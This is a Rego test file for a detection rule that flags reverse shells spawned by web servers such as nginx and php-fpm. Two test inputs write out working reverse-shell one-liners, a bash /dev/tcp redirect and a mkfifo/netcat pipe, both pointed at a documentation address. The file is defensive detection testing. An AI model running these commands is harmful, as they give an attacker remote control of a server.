package bpfopa.rules.reverse_shell_from_web_server_test

import data.bpfopa.lib.testing
import data.bpfopa.rules.reverse_shell_from_web_server

_exec(name, cmdline, overrides) := testing.exec(object.union(
	{"process": {
		"name": name, "exe": concat("/", ["/usr/bin", name]), "args": array.slice(split(cmdline, " "), 1, 100),
		"argv0": name, "cmdline": cmdline,
	}},
	overrides,
))

_below(parent) := {"process": {"parent": {"name": parent}}}

test_alerts_dev_tcp if {
	found := reverse_shell_from_web_server.alerts with input as _exec("bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", _below("nginx"))
	count(found) == 1
	some alert in found
	alert.rule == "Reverse Shell from Web Server"
	alert.id == "reverse_shell_from_web_server"
	contains(alert.output, "process=bash web_server=nginx")
}

test_alerts_mkfifo if {
	found := reverse_shell_from_web_server.alerts with input as _exec("sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f", _below("php-fpm"))
	count(found) == 1
	some alert in found
	alert.rule == "Reverse Shell from Web Server"
	alert.id == "reverse_shell_from_web_server"
}

test_no_alert_ordinary_shell if {
	count(reverse_shell_from_web_server.alerts) == 0 with input as _exec("sh", "sh -c id", _below("nginx"))
}

test_no_alert_not_below_web_server if {
	count(reverse_shell_from_web_server.alerts) == 0 with input as _exec("bash", "bash -i", {})
}
